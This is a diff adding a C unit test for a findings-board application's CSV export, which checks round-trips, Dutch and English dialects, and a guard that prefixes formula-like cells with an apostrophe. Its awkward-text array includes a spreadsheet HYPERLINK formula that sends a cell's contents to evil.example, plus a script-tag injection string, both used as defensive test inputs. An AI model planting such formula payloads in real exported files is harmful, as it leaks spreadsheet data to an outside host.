@@ -1,0 +1,193 @@
+/* test-export-csv.c: the CSV export reads back with the CSV importer into
+ * the same findings, field by field, in every dialect it writes.
+ *
+ * SPDX-License-Identifier: GPL-3.0-or-later
+ */
+#include "config.h"
+
+#include <string.h>
+
+#include "kw-csv.h"
+#include "kw-export-csv.h"
+#include "kw-format.h"
+
+static KwBoard *
+load_example (const char *name)
+{
+  g_autoptr(GError) error = NULL;
+  g_autofree char *path = g_build_filename (g_getenv ("KW_SOURCE_DIR"), "data", "examples", name, NULL);
+  g_autoptr(GFile) file = g_file_new_for_path (path);
+  KwBoard *board = kw_format_load_file (file, NULL, &error);
+
+  g_assert_no_error (error);
+
+  return board;
+}
+
+static GBytes *
+export_csv (KwBoard    *board,
+            const char *lang,
+            char        separator,
+            gboolean    bom)
+{
+  g_autoptr(GError) error = NULL;
+  KwExportCsvOptions options = { lang, separator, bom };
+  GBytes *bytes = kw_export_csv_bytes (board, &options, &error);
+
+  g_assert_no_error (error);
+  g_assert_nonnull (bytes);
+
+  return bytes;
+}
+
+static void
+assert_same_findings (KwBoard *original,
+                      KwBoard *copy)
+{
+  g_assert_cmpuint (kw_board_get_n_findings (copy), ==, kw_board_get_n_findings (original));
+
+  for (guint i = 0; i < kw_board_get_n_findings (original); i++)
+    {
+      KwFinding *a = kw_board_get_finding (original, i);
+      KwFinding *b = kw_board_get_finding (copy, i);
+
+      for (guint t = 0; t < KW_N_FINDING_TEXTS; t++)
+        g_assert_cmpstr (kw_finding_get_text (b, (KwFindingText) t), ==,
+                         kw_finding_get_text (a, (KwFindingText) t));
+      g_assert_cmpint (kw_finding_get_placed (b), ==, kw_finding_get_placed (a));
+      if (kw_finding_get_placed (a))
+        {
+          g_assert_cmpfloat (kw_finding_get_impact (b), ==, kw_finding_get_impact (a));
+          g_assert_cmpfloat (kw_finding_get_effort (b), ==, kw_finding_get_effort (a));
+        }
+      g_assert_cmpint (kw_finding_get_status (b), ==, kw_finding_get_status (a));
+      g_assert_true (g_strv_equal (kw_finding_get_tags (b), kw_finding_get_tags (a)));
+      g_assert_cmpint (kw_board_classify_finding (copy, b), ==, kw_board_classify_finding (original, a));
+    }
+}
+
+static void
+round_trip (KwBoard    *board,
+            const char *lang,
+            char        separator,
+            gboolean    bom)
+{
+  g_autoptr(GBytes) bytes = export_csv (board, lang, separator, bom);
+  g_autoptr(GError) error = NULL;
+  g_autoptr(KwBoard) copy = kw_csv_import_bytes (bytes, "export.csv", &error);
+  const char *data = g_bytes_get_data (bytes, NULL);
+
+  g_assert_no_error (error);
+  g_assert_cmpint (g_str_has_prefix (data, "\xef\xbb\xbf"), ==, bom);
+  assert_same_findings (board, copy);
+}
+
+static void
+test_round_trip_example (void)
+{
+  const char * const examples[] = { "klantcontact-nl.kwadrant", "customer-contact-en.kwadrant" };
+
+  for (guint i = 0; i < G_N_ELEMENTS (examples); i++)
+    {
+      g_autoptr(KwBoard) board = load_example (examples[i]);
+
+      round_trip (board, "en", ',', FALSE);
+      round_trip (board, "en", ';', TRUE);
+      round_trip (board, "nl", '\0', TRUE);
+      round_trip (board, "nl", ',', FALSE);
+    }
+}
+
+static void
+test_dialects (void)
+{
+  g_autoptr(KwBoard) board = load_example ("klantcontact-nl.kwadrant");
+  g_autoptr(GBytes) english = export_csv (board, "en", '\0', FALSE);
+  g_autoptr(GBytes) dutch = export_csv (board, "nl", '\0', TRUE);
+  const char *en = g_bytes_get_data (english, NULL);
+  const char *nl = g_bytes_get_data (dutch, NULL);
+
+  g_assert_true (g_str_has_prefix (en, "id,title,description,impact,effort,outcome,owner,due,review,"
+                                       "status,tags,source,drop reason,created,modified\r\n"));
+  g_assert_true (g_str_has_prefix (nl, "\xef\xbb\xbfid;titel;omschrijving;impact;inspanning;uitkomst;"
+                                       "eigenaar;deadline;herbeoordeling;status;labels;bron;"
+                                       "reden schrappen;aangemaakt;gewijzigd\r\n"));
+  /* Dutch Excel reads a decimal comma as a number. */
+  g_assert_nonnull (strstr (en, ",8.5,2.5,"));
+  g_assert_nonnull (strstr (nl, ";8,5;2,5;"));
+}
+
+static const char * const awkward_texts[] = {
+  "=HYPERLINK(\"https://evil.example/?\"&A1, \"click\")",
+  "+31 6 1234 5678",
+  "-5% wachttijd",
+  "@SUM(A1:A9)",
+  "a \"quoted\" word, a comma; and a semicolon",
+  "  leading and trailing spaces  ",
+  "line one\n\nline three after a blank line\n",
+  "<script>alert(1)</script> & ]]>",
+  "'=already quoted",
+};
+
+static void
+test_round_trip_awkward (void)
+{
+  g_autoptr(KwBoard) board = kw_board_new ();
+  guint n = G_N_ELEMENTS (awkward_texts);
+
+  for (guint i = 0; i < n; i++)
+    {
+      g_autoptr(KwFinding) finding = kw_finding_new (awkward_texts[i]);
+      const char *tags[] = { "@tag", "-minus", "\"quoted\"", NULL };
+
+      kw_finding_set_description (finding, awkward_texts[(i + 1) % n]);
+      kw_finding_set_owner (finding, awkward_texts[(i + 2) % n]);
+      kw_finding_set_source (finding, awkward_texts[(i + 3) % n]);
+      kw_finding_set_drop_reason (finding, awkward_texts[(i + 4) % n]);
+      kw_finding_set_tags (finding, tags);
+      kw_finding_set_due_date (finding, i % 2 ? "2027-01-31" : "");
+      kw_finding_set_status (finding, (KwStatus) (i % KW_N_STATUSES));
+      if (i % 3 != 2)
+        kw_finding_place (finding, 0.5 + i, 9.5 - i);
+      g_assert_true (kw_board_append_finding (board, finding));
+    }
+
+  round_trip (board, "en", ',', FALSE);
+  round_trip (board, "en", ';', FALSE);
+  round_trip (board, "nl", ';', TRUE);
+}
+
+/* A cell a spreadsheet would run as a formula starts with an apostrophe. */
+static void
+test_formula_guard (void)
+{
+  g_autoptr(KwBoard) board = kw_board_new ();
+  g_autoptr(KwFinding) finding = kw_finding_new ("=1+1");
+  g_autoptr(GBytes) bytes = NULL;
+  const char *data;
+
+  kw_finding_set_owner (finding, "@owner");
+  kw_finding_set_source (finding, "safe source");
+  kw_board_append_finding (board, finding);
+
+  bytes = export_csv (board, "en", ',', FALSE);
+  data = g_bytes_get_data (bytes, NULL);
+  g_assert_nonnull (strstr (data, ",'=1+1,"));
+  g_assert_nonnull (strstr (data, ",'@owner,"));
+  g_assert_nonnull (strstr (data, ",safe source,"));
+  g_assert_null (strstr (data, ",=1+1,"));
+}
+
+int
+main (int   argc,
+      char *argv[])
+{
+  g_test_init (&argc, &argv, NULL);
+
+  g_test_add_func ("/export/csv/round-trip-examples", test_round_trip_example);
+  g_test_add_func ("/export/csv/dialects", test_dialects);
+  g_test_add_func ("/export/csv/round-trip-awkward", test_round_trip_awkward);
+  g_test_add_func ("/export/csv/formula-guard", test_formula_guard);
+
+  return g_test_run ();
+}
